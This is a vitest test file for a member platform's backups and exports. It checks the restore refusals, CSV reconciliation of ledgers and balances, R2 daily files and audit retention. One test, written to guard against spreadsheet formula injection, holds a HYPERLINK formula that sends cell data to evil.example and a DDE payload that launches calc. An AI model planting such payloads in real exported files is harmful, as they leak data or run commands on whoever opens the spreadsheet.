import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditEntry } from "../../server/contract";
import { csv, parseCsv } from "../../server/platform/exports/csv";
import { createPlatform, objectStub, type Platform, type TestMember, type TestOperator } from "../helpers/platform";
import { fastPair } from "./game-helpers";
import {
  BANK_OPTION,
  bindBank,
  eventually,
  fund,
  ledgerOf,
  memberCall,
  memberIdOf,
  MONEY_SITE,
  wallets,
} from "./money-helpers";

/**
 * Getting data back (server/platform/README.md, "Restore, exports and audit retention"): the
 * restore calls' refusals (local workerd has no point-in-time recovery), a day's CSV files
 * reconciled with the members' balances, the daily run's files in R2, and audit months past the
 * site's retention moved to R2.
 */

const SITE = "data-ops";
const PAIR = "DATA-USDT";
let platform: Platform;
let finance: TestOperator;
let a: TestMember;
let b: TestMember;

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const bucket = () => platform.mf.getR2Bucket("EXPORTS", "member-platform");
const site = () =>
  objectStub<{
    daily(nowMs: number): Promise<{ day: string; files: string[]; archived: { month: string; entries: number }[] }>;
    appendAudit(e: AuditEntry): Promise<void>;
  }>(platform, "SITE", SITE);

beforeAll(async () => {
  platform = await createPlatform();
  await platform.seedSite(SITE, MONEY_SITE);
  const pair = await platform.operator("operatorPutPair", {
    params: { pair: PAIR },
    body: fastPair({ name: "DATA Walk", periodSeconds: 3600 }),
  });
  expect(pair.envelope.message).toBe("ok");
  finance = await platform.createOperator({ name: "Cashier", sites: [SITE], roles: ["finance"] });
  a = await platform.signupMember(SITE);
  b = await platform.signupMember(SITE);
}, 60_000);
afterAll(() => platform.dispose());

/** A pending deposit's id once the site's queue has it (the outbox delivers it just after the commit). */
async function queuedDeposit(m: TestMember, amount: number): Promise<string> {
  const asked = await memberCall(platform, m, "deposit", { body: { optionId: BANK_OPTION.id, amount } });
  const id = asked.envelope.data!.id;
  await eventually(async () => {
    const r = await platform.operator("operatorDeposits", { params: { siteId: SITE } });
    return r.envelope.data!.some((d) => d.id === id);
  });
  return id;
}

async function queuedWithdrawal(m: TestMember, amount: number): Promise<string> {
  const asked = await memberCall(platform, m, "withdraw", {
    body: { amount, transactionPassword: m.transactionPassword },
  });
  expect(asked.envelope.message).toBe("ok");
  const id = asked.envelope.data!.id;
  await eventually(async () => {
    const r = await platform.operator("operatorWithdrawals", { params: { siteId: SITE } });
    return r.envelope.data!.some((w) => w.id === id);
  });
  return id;
}

const restoreBody = (at: number, confirm = false) => ({ at: new Date(at).toISOString(), reason: "rehearsal", confirm });

describe("restore", () => {
  it("says locally that the storage keeps no history, for each kind of object, and audits the attempt", async () => {
    const at = Date.now() - HOUR;
    const calls = [
      platform.operator("operatorRestoreMember", {
        params: { siteId: SITE, memberId: memberIdOf(a) },
        body: restoreBody(at, true),
      }),
      platform.operator("operatorRestoreSite", { params: { siteId: SITE }, body: restoreBody(at) }),
      platform.operator("operatorRestoreMarket", { params: { pair: PAIR }, body: restoreBody(at) }),
    ];
    for (const { envelope } of await Promise.all(calls)) {
      expect(envelope).toMatchObject({ statusCode: 400, message: "restore_unavailable" });
      expect((envelope.data as { problems?: string[] } | undefined)?.problems?.[0]).toMatch(/point-in-time recovery/);
    }
    expect((await wallets(platform, a)).main.balance).toBe(0);
    const log = await platform.operator("operatorAudit", {
      params: { siteId: SITE },
      query: { type: "operator_action" },
    });
    const restores = log.envelope.data!.items.filter((e) => String(e.details.call).startsWith("operatorRestore"));
    expect(restores.map((e) => [e.details.call, e.details.outcome, e.memberId])).toEqual(
      expect.arrayContaining([
        ["operatorRestoreMember", "restore_unavailable", memberIdOf(a)],
        ["operatorRestoreSite", "restore_unavailable", ""],
      ]),
    );
  });

  it("refuses a point in the future or past the 30-day window before asking the storage", async () => {
    for (const at of [Date.now() + HOUR, Date.now() - 31 * DAY]) {
      const { envelope } = await platform.operator("operatorRestoreSite", {
        params: { siteId: SITE },
        body: restoreBody(at),
      });
      expect(envelope.message).toBe("restore_point_invalid");
    }
  });

  it("refuses an operator without the admin role, a member of another site and a pair that does not exist", async () => {
    const byFinance = await platform.operator(
      "operatorRestoreMember",
      { params: { siteId: SITE, memberId: memberIdOf(a) }, body: restoreBody(Date.now() - HOUR) },
      finance.key,
    );
    expect(byFinance.envelope).toEqual({ statusCode: 403, message: "operator_role_missing" });
    await platform.seedSite("data-ops-other");
    const foreign = await platform.operator("operatorRestoreMember", {
      params: { siteId: "data-ops-other", memberId: memberIdOf(a) },
      body: restoreBody(Date.now() - HOUR),
    });
    expect(foreign.envelope.message).toBe("invalid_parameters");
    const pair = await platform.operator("operatorRestoreMarket", {
      params: { pair: "NOPE-USDT" },
      body: restoreBody(Date.now() - HOUR),
    });
    expect(pair.envelope.message).toBe("invalid_trading_pair");
  });
});

/** The files of `day`, parsed: each a list of records keyed by the header's names. */
async function exportOf(day: string, key?: string): Promise<Record<string, Record<string, string>[]>> {
  const { envelope } = await platform.operator("operatorExport", { params: { siteId: SITE, day }, query: {} }, key);
  expect(envelope.message).toBe("ok");
  return Object.fromEntries(
    envelope.data!.files.map((f) => {
      const [header, ...rows] = parseCsv(f.csv);
      expect(rows.length).toBe(f.rows);
      return [f.kind, rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])))];
    }),
  );
}

const utcDay = (ms: number) => new Date(ms).toISOString().slice(0, 10);
const sum = (rows: Record<string, string>[], field: string) => rows.reduce((t, r) => t + Number(r[field]), 0);

describe("a day's files", () => {
  it("reconcile: opening + the day's entries = closing for every account, and deposits and withdrawals total the ledger", async () => {
    const started = Date.now();
    await fund(platform, a, 50_000);
    await fund(platform, b, 7_000);
    const confirmed = await queuedDeposit(a, 20_000);
    const refused = await queuedDeposit(a, 3_000);
    expect(
      (await platform.operator("operatorConfirmDeposit", { params: { siteId: SITE, id: confirmed }, body: {} }))
        .envelope.message,
    ).toBe("ok");
    expect(
      (
        await platform.operator("operatorRefuseDeposit", {
          params: { siteId: SITE, id: refused },
          body: { reason: 'no transfer, "seen"' },
        })
      ).envelope.message,
    ).toBe("ok");
    await memberCall(platform, a, "transfer", { body: { direction: "in", gameCode: "binary", amount: 5_000 } });
    await bindBank(platform, a);
    const paid = await queuedWithdrawal(a, 2_000);
    const returned = await queuedWithdrawal(a, 3_000);
    await queuedWithdrawal(a, 1_000); // left pending: its hold is in the balances, nothing paid
    expect(
      (await platform.operator("operatorApproveWithdrawal", { params: { siteId: SITE, id: paid }, body: {} })).envelope
        .message,
    ).toBe("ok");
    expect(
      (
        await platform.operator("operatorRejectWithdrawal", {
          params: { siteId: SITE, id: returned },
          body: { reason: "name, differs" },
        })
      ).envelope.message,
    ).toBe("ok");

    // every day the work touched (two when it ran over midnight)
    const days = [...new Set([utcDay(started), utcDay(Date.now())])];
    const ledger: Record<string, string>[] = [];
    const deposits: Record<string, string>[] = [];
    const withdrawals: Record<string, string>[] = [];
    let closing: Record<string, string>[] = [];
    for (const day of days) {
      const files = await exportOf(day);
      expect(Object.keys(files)).toEqual(["ledger", "balances", "deposits", "withdrawals", "positions", "audit"]);
      for (const balance of files.balances!) {
        const entries = files.ledger!.filter(
          (l) => l.member_id === balance.member_id && l.ledger_account === balance.ledger_account,
        );
        expect(Number(balance.opening) + sum(entries, "amount"), `${balance.member_id} ${balance.ledger_account}`).toBe(
          Number(balance.closing),
        );
      }
      // every entry's account has its balances row
      for (const l of files.ledger!)
        expect(
          files.balances!.some((bl) => bl.member_id === l.member_id && bl.ledger_account === l.ledger_account),
        ).toBe(true);
      ledger.push(...files.ledger!);
      deposits.push(...files.deposits!.filter((d) => d.decided_at!.startsWith(day)));
      withdrawals.push(...files.withdrawals!.filter((w) => w.decided_at!.startsWith(day)));
      closing = files.balances!;
      for (const row of [...files.ledger!, ...files.deposits!]) expect(row.currency).toBe("USD");
    }
    // the last day's closing balances are the members' balances now
    for (const m of [a, b]) {
      const live = (await ledgerOf(platform, m)).balances;
      const rows = closing.filter((r) => r.member_id === memberIdOf(m));
      expect(Object.fromEntries(rows.map((r) => [r.ledger_account, Number(r.closing)]))).toEqual(
        Object.fromEntries(
          Object.entries(live).filter(
            ([account, balance]) => balance !== 0 || rows.some((r) => r.ledger_account === account),
          ),
        ),
      );
    }
    const credited = deposits.filter((d) => d.status === "credited");
    expect(sum(credited, "amount")).toBe(50_000 + 7_000 + 20_000);
    expect(sum(credited, "amount")).toBe(
      -sum(
        ledger.filter((l) => l.ledger_account === "external:deposit"),
        "amount",
      ),
    );
    const paidRows = withdrawals.filter((w) => w.status === "paid");
    expect(sum(paidRows, "amount")).toBe(2_000);
    expect(sum(paidRows, "amount")).toBe(
      sum(
        ledger.filter((l) => l.ledger_account === "external:withdrawal"),
        "amount",
      ),
    );
    expect(sum(paidRows, "fee")).toBe(
      sum(
        ledger.filter((l) => l.ledger_account === "fees" && l.type === "withdrawal_paid"),
        "amount",
      ),
    );
    expect(withdrawals.find((w) => w.status === "rejected")?.amount).toBe("3000");
  });

  it("quote fields as RFC 4180 says, and leave the audit file to admin", async () => {
    const { envelope } = await platform.operator("operatorExport", {
      params: { siteId: SITE, day: utcDay(Date.now()) },
      query: { kind: "audit" },
    });
    const audit = envelope.data!.files[0]!.csv;
    expect(audit.split("\r\n")[0]).toBe(
      "site,entry_id,time,type,actor,operator_id,operator_name,member_account,member_id,address,details",
    );
    // a reason with a comma and quotes is one field, quotes doubled
    expect(audit).toContain('""reason"":""name, differs""');
    const asFinance = await platform.operator(
      "operatorExport",
      { params: { siteId: SITE, day: utcDay(Date.now()) }, query: {} },
      finance.key,
    );
    expect(asFinance.envelope.data!.files.map((f) => f.kind)).toEqual([
      "ledger",
      "balances",
      "deposits",
      "withdrawals",
      "positions",
    ]);
    const auditByFinance = await platform.operator(
      "operatorExport",
      { params: { siteId: SITE, day: utcDay(Date.now()) }, query: { kind: "audit" } },
      finance.key,
    );
    expect(auditByFinance.envelope.message).toBe("operator_role_missing");
  });

  it("never hand a spreadsheet a formula: a text that starts like one is written as text", async () => {
    // an admin names an operator like a formula; the operator acts, and the audit file names them
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const named = await platform.createOperator({ name: formula, sites: [SITE], roles: ["support"] });
    const acted = await platform.operator("operatorSmsLog", { params: { siteId: SITE }, query: {} }, named.key);
    expect(acted.envelope.statusCode, acted.envelope.message).toBe(200);
    const { envelope } = await platform.operator("operatorExport", {
      params: { siteId: SITE, day: utcDay(Date.now()) },
      query: { kind: "audit" },
    });
    const [header, ...rows] = parseCsv(envelope.data!.files[0]!.csv);
    const name = rows.find((r) => r[header!.indexOf("operator_id")] === named.id)?.[header!.indexOf("operator_name")];
    expect(name).toBe(`'${formula}`);
    // the same for each character a spreadsheet starts a formula with; ids and accounts (which
    // can name no function) and numbers are written as they are
    expect(csv(["v"], [["+1"], ["-2+cmd|' /C calc'!A0"], ["@SUM(A1)"], ["\t=1"], ["-Ab_9"], [-5], ["plain"]])).toBe(
      "v\r\n'+1\r\n'-2+cmd|' /C calc'!A0\r\n'@SUM(A1)\r\n'\t=1\r\n-Ab_9\r\n-5\r\nplain\r\n",
    );
  });

  it("are written to R2 for the day before by the daily run", async () => {
    const run = await site().daily(Date.now() + DAY);
    const day = utcDay(Date.now());
    expect(run.day).toBe(day);
    const object = await (await bucket()).get(`exports/${SITE}/${day}/ledger.csv`);
    expect(object).not.toBeNull();
    const [header, ...rows] = parseCsv(await object!.text());
    expect(header![0]).toBe("site");
    expect(rows.length).toBeGreaterThan(0);
    expect(run.files).toContain(`exports/${SITE}/${day}/withdrawals.csv`);
  });
});

describe("audit retention", () => {
  const entry = (daysAgo: number, id: string): AuditEntry => ({
    id,
    type: "operator_action",
    at: new Date(Date.now() - daysAgo * DAY).toISOString(),
    actor: "operator",
    account: "",
    memberId: "",
    address: "",
    operator: { id: "owner", name: "owner" },
    details: { call: "operatorPutSite" },
  });
  const listed = async () =>
    (
      await platform.operator("operatorAudit", { params: { siteId: SITE }, query: { pageSize: 200 } })
    ).envelope.data!.items.map((e) => e.id);

  it("moves entries older than the site's retention to R2, a file per month, and the export still finds them", async () => {
    const old = entry(500, "retention-old");
    const recent = entry(120, "retention-recent");
    await site().appendAudit(old);
    await site().appendAudit(recent);
    const first = await site().daily(Date.now());
    const oldMonth = old.at.slice(0, 7);
    expect(first.archived.map((m) => m.month)).toContain(oldMonth);
    expect(first.archived.map((m) => m.month)).not.toContain(recent.at.slice(0, 7));
    const file = await (await bucket()).get(`audit/${SITE}/${oldMonth}.jsonl`);
    const ids = (await file!.text())
      .trim()
      .split("\n")
      .map((line: string) => (JSON.parse(line) as AuditEntry).id);
    expect(ids).toContain(old.id);
    expect(await listed()).not.toContain(old.id);
    expect(await listed()).toContain(recent.id);
    // the day's audit file reads a moved month from R2
    const files = await exportOf(old.at.slice(0, 10));
    expect(files.audit!.map((r) => r.entry_id)).toContain(old.id);

    // a shorter retention moves the 120-day-old month on the next run
    await platform.seedSite(SITE, { auditRetentionDays: 90 });
    const second = await site().daily(Date.now());
    expect(second.archived.map((m) => m.month)).toContain(recent.at.slice(0, 7));
    expect(await listed()).not.toContain(recent.id);
    expect(await (await bucket()).get(`audit/${SITE}/${recent.at.slice(0, 7)}.jsonl`)).not.toBeNull();
  });

  it("keeps refusing to delete an entry whose month is not archived", async () => {
    const sql = objectStub<{ appendAudit(e: AuditEntry): Promise<void> }>(platform, "SITE", SITE);
    await sql.appendAudit(entry(1, "retention-kept"));
    // the daily run leaves a month inside retention alone
    const run = await site().daily(Date.now());
    expect(run.archived).toEqual([]);
    expect(await listed()).toContain("retention-kept");
  });
});
